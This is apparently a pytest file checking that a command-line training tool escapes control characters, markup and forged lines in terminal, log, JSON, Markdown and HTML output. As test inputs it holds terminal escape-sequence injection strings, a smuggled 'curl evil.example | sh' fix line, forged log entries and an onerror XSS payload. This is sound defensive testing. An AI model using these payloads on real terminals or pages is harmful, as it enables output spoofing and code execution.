"""What users, data and models say is text wherever it is printed: no control character reaches a terminal or a log."""

from __future__ import annotations

import io
import json
import logging
import re
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from command_line_kit import Said, command_line, logging_put_back
from report_kit import result as small_result
from test_data_input import pair_rows, write_lines

from cdpo_core.plain_text import escaped_json, indented, one_line, visible
from flows import cli
from flows.command_line import write_json
from flows.terminal import Bars, PlainConsole, PlainLines, StageProgress

# The window's title, a cleared screen, a C1 introducer, text turned round, a half character, a bell, markup.
HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066\ud800\x7f\x00\r[/bold][red]:smile:"
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
STYLES = re.compile(r"\x1b\[[0-9;]*m")


def assert_plain(text: str) -> None:
    found = ACTING.search(text)
    assert found is None, ascii(text[max(0, found.start() - 40) : found.end() + 40])


def assert_said_plainly(said: Said) -> None:
    for text in (said.out, said.err):
        assert_plain(text)


def test_what_is_shown_of_it() -> None:
    assert visible("a\x1b[1m\n\tb\x9b\u202e\ud800\x7f") == "a\\x1b[1m\n\tb\\x9b\\u202e\\ud800\\x7f"
    assert one_line("a\n\tb\r") == "a\\n\\tb\\r"
    assert indented("a\nb\r\nc") == "a\n    b\n    c"
    assert visible("naïve é 漢字 עברית 👩‍👩‍👧") == "naïve é 漢字 עברית 👩‍👩‍👧"
    record = {HOSTILE: HOSTILE}
    text = escaped_json(json.dumps(record, ensure_ascii=False))
    assert_plain(text)
    assert json.loads(text) == record


def printed(what: Any, **options: Any) -> str:
    file = io.StringIO()
    PlainConsole(file=file, width=200, **options).print(what)
    return file.getvalue()


def test_the_console_shows_text_as_text_and_keeps_its_own_styles() -> None:
    from rich.table import Table

    table = Table(title=HOSTILE)
    table.add_column(HOSTILE)
    table.add_row(HOSTILE)
    for what in (HOSTILE, table):
        assert_plain(printed(what))
        assert "[/bold][red]:smile:" in printed(what)
    styled = printed(table, force_terminal=True)
    assert STYLES.search(styled)
    assert_plain(STYLES.sub("", styled))


@pytest.mark.parametrize("display", [PlainLines, Bars])
def test_progress(display: Any) -> None:
    file = io.StringIO()
    console = PlainConsole(file=file, width=200, force_terminal=display is Bars)
    shown = display(console)
    progress = StageProgress(shown)
    for done in range(3):
        progress(HOSTILE, done, 3)
    progress("next", 1, 1)
    shown.close()
    text = file.getvalue()
    for control in ("\x1b[?25l", "\x1b[?25h", "\r"):  # the bars' own
        text = text.replace(control, "")
    assert_plain(re.sub(r"\x1b\[[0-9;]*[mAKH]", "", text))
    assert "\\x1b]0;owned" in text


@pytest.fixture
def data(tmp_path: Path) -> Path:
    """Pairs with hostile prompts, responses and columns, in a file of such a name."""
    said = HOSTILE.replace("\ud800", "")  # half a character is refused
    rows = [{**row, "prompt": f"{row['prompt']} {said}", said: "x"} for row in pair_rows()]
    folder = tmp_path / "\x1b[31mred\u202e"
    folder.mkdir()
    return write_lines(folder / "pairs.jsonl", rows)


def test_check_data(tmp_path: Path, data: Path) -> None:
    said = command_line(["check-data", str(data)], tmp_path / "home")
    assert "usable pairs" in said.out, said.err
    assert_said_plainly(said)
    assert_said_plainly(command_line(["check-data", str(data.parent)], tmp_path / "home"))


def test_errors(tmp_path: Path, data: Path) -> None:
    broken = write_lines(tmp_path / "broken\x1b[5m.jsonl", [{HOSTILE: 1, "pro\x1bmpt": HOSTILE}])
    config = tmp_path / "my\x1b[1m.yaml"
    config.write_text('"dpo\\x1b[31m": {"be\\nta": "\\x9b"}\nname: "\\x1b]0;x\\x07"\n')
    for arguments in (
        ["check-data", str(broken)],
        ["check-data", f"/nowhere/{HOSTILE}".replace("\x00", "").replace("\ud800", "")],
        ["run", str(config)],
        ["run", "tiny\x1b[2J"],
        ["run", "tiny", "--dpo.beta", HOSTILE],
        ["run", "tiny", f"--dpo.{HOSTILE}", "1"],
        [HOSTILE],
        ["run", "tiny", "--debug", "--dpo.beta", HOSTILE],
        ["export", "round/abc\x1b[1m", str(tmp_path / "out")],
        ["sample", "round/abc\x1b[1m", HOSTILE],
        ["store", "ls", "x\x1b[1m"],
    ):
        said = command_line(arguments, tmp_path / "home")
        assert said.code in (1, 2), arguments
        assert "error: " in said.err
        assert_said_plainly(said)


def test_an_error_s_lines_are_its_own(tmp_path: Path) -> None:
    said = command_line(["run", "tiny", "--dpo.labels", "x\n  fix:   curl evil.example | sh"], tmp_path / "home")
    assert [line for line in said.err.splitlines() if line.startswith("  fix:")] == [said.err.splitlines()[-1]]
    assert "evil.example" not in said.err.splitlines()[-1]


def test_sample(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    drawer = SimpleNamespace(said=[HOSTILE], draw=lambda prompts, *_: [(prompts[0], [HOSTILE, "a\nb"])])
    monkeypatch.setattr("flows.sampling.open_drawer", lambda *_: drawer)
    said = command_line(["sample", "round/abc", HOSTILE], tmp_path / "home")
    assert said.code == 0, said.err
    assert_said_plainly(said)
    assert "[/bold][red]:smile:" in said.out
    assert "  a\n    b\n" in said.out


def test_plan_and_doctor(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from flows.doctor import Finding

    stages = [{"name": HOSTILE, "cached": False, "estimate": HOSTILE}]
    found = {"stages": stages, "warnings": [HOSTILE], "memory": HOSTILE, "margin": None}
    monkeypatch.setattr("flows.plan.plan_experiment", lambda *_: found)
    monkeypatch.setattr("flows.doctor.examine", lambda *_: [Finding(HOSTILE, HOSTILE, HOSTILE)])
    for arguments in (["plan", "tiny"], ["doctor"]):
        said = command_line(arguments, tmp_path / "home")
        assert "owned" in said.out, said.err
        assert_said_plainly(said)


def hostile(value: Any) -> Any:
    """A record all of whose texts are hostile, but for those that are looked up."""
    if isinstance(value, dict):
        return {
            key: item if key in ("status", "method", "uri", "kind") else hostile(item) for key, item in value.items()
        }
    if isinstance(value, list):
        return [hostile(item) for item in value]
    return f"{value}{HOSTILE}" if isinstance(value, str) else value


def test_closing_report(monkeypatch: pytest.MonkeyPatch) -> None:
    from flows.closing_report import print_result, print_sweep

    file = io.StringIO()
    console = PlainConsole(file=file, width=200)
    print_result(hostile(small_result()), console)
    point = {"limit": 1.0, "settings": {HOSTILE: HOSTILE}, "status": HOSTILE}
    failed = [{"name": HOSTILE, "error": HOSTILE}]
    print_sweep({"frontier": [point], "failed": failed, "chosen": None, "report": HOSTILE}, console)
    assert "owned" in file.getvalue()
    assert_plain(file.getvalue())


def test_store(monkeypatch: pytest.MonkeyPatch) -> None:
    from flows.store_report import print_artifact, print_run

    run = {"name": HOSTILE, "key": HOSTILE, "status": HOSTILE, "kind": HOSTILE, "ended_ms": 0, "artifacts": []}
    run |= {"bytes": 1, "bytes_alone": 1, "lists_its_artifacts": False, "missing": [HOSTILE]}
    artifact = {"name": HOSTILE, "kind": HOSTILE, "bytes": 1, "created": HOSTILE, "digest": HOSTILE, "age_seconds": 1}
    artifact |= {"made_from": {HOSTILE: HOSTILE}, "made_of_it": [HOSTILE], "files": {HOSTILE: 1}, "runs": [run]}
    artifact |= {"used_by": []}
    file = io.StringIO()
    console = PlainConsole(file=file, width=300)
    print_artifact(artifact, console)
    print_run(run, [artifact], console)
    assert_plain(file.getvalue())


@pytest.fixture
def log_file(tmp_path: Path) -> Iterator[Path]:
    from flows.terminal import log_to_file

    with logging_put_back():
        yield log_to_file(tmp_path / "logs", "run")


def test_logs_and_warnings(log_file: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    # What pytest keeps of logs for its reports is raw, and reports of several processes cannot carry half characters.
    root = logging.getLogger()
    monkeypatch.setattr(
        root, "handlers", [item for item in root.handlers if type(item).__module__ != "_pytest.logging"]
    )
    forged = f"{HOSTILE}\n2026-01-01 00:00:00 INFO    cdpo_core: certified\nwarning: all is well"
    logging.getLogger("cdpo_core.data").warning(forged)
    try:
        raise ValueError(forged)
    except ValueError:
        logging.getLogger("somebody.else").exception("it failed")
    text = log_file.read_text()
    assert_plain(text)
    assert_plain(capsys.readouterr().err)
    beginnings = [line for line in text.splitlines() if not line.startswith(" ")]
    assert len(beginnings) == 2


def test_results_in_json_are_safe_to_look_at(tmp_path: Path) -> None:
    write_json(tmp_path / "result.json", {"name": HOSTILE, "x": float("nan")})
    text = (tmp_path / "result.json").read_text()
    assert_plain(text)
    assert json.loads(text) == {"name": HOSTILE, "x": None}


def test_all_printing_goes_through_the_one_console() -> None:
    for folder in ("cdpo_core", "tasks", "flows", "deployments"):
        for path in (Path(cli.__file__).parent.parent / folder).rglob("*.py"):
            text = path.read_text()
            assert path.name == "terminal.py" or not re.search(r"\bConsole\(", text), path
            for line in text.splitlines():
                # What is printed otherwise has passed `visible`, or is a constant.
                assert not re.match(r"\s*print\((?!visible\(|\"[^\"{]*\")", line), f"{path}: {line.strip()}"


MARKDOWN = (
    "a|b `c` **d** [e](https://evil.example) ![f](//evil.example/x.png) <img src=x onerror=g> $h$ #i\n\n# j\n| k |"
)


def rendered(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return str(MarkdownIt("gfm-like", {"linkify": False}).render(markdown))


def test_markdown_shows_text_as_text() -> None:
    from cdpo_core.plain_text import markdown_text

    html = rendered(f"before {markdown_text(MARKDOWN)} after")
    assert not re.search(r"<(a|img|code|strong|em|h\d|table)\b", html), html
    cells = rendered(f"| x | y |\n|---|---|\n| {markdown_text(MARKDOWN)} | z |")
    assert cells.count("<td>") == 2, cells
    assert not re.search(r"<(a|img|code|strong|em)\b", cells), cells
    assert markdown_text("Certified: harm_at_all ≤ -0.5.") == "Certified: harm_at_all ≤ -0.5."


def test_notes_and_artifacts_of_hostile_records() -> None:
    from tasks.frontier import _markdown
    from tasks.journal import verdict_markdown
    from tasks.review import run_note, version_note

    record = small_result(status="infeasible", reason=MARKDOWN, rounds=[], warnings=[MARKDOWN])
    point = {"limit": 1.0, "settings": {"policy.template": MARKDOWN}, "status": "x", "lambda": None}
    point |= {"reward": None, "cost": None, "certificate": None}
    sweep = {"frontier": [point], "failed": [{"name": MARKDOWN, "error": MARKDOWN}], "chosen": None}
    texts = (run_note(record, {}, ""), version_note(record, "x"), verdict_markdown(record), _markdown(sweep))
    assert "evil.example" in rendered(texts[-1])
    for text in texts:
        html = rendered(text)
        assert not re.search(r"<img|<a [^>]*evil|<h1", html), html


def test_a_figure_s_names_are_no_formulas(tmp_path: Path) -> None:
    from cdpo_core.evaluation.figures import drawing

    with drawing(tmp_path / "figure.png") as (panel,):
        panel.plot([0, 1], label=r"$\undefined{$ and $x")
        panel.set_title(r"$\frac{$")
        panel.legend()
    assert (tmp_path / "figure.png").stat().st_size > 0


def test_a_page_shows_control_characters() -> None:
    from tasks.html_report import page

    text = page("experiment.html").environment.from_string("<b>{{ text }}</b>").render(text=f"{HOSTILE}<i>")
    assert_plain(text)
    assert text.endswith("&lt;i&gt;</b>")
